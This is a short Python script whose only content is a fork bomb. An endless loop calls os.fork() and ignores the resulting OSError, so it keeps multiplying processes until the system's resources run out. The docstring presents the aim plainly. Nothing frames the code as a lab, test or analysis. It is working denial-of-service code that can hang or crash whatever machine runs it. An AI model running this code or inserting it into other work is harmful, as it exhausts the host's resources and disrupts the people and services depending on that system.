"""Double until the limit, and go on trying."""
import os

while True:
    try:
        os.fork()
    except OSError:
        pass
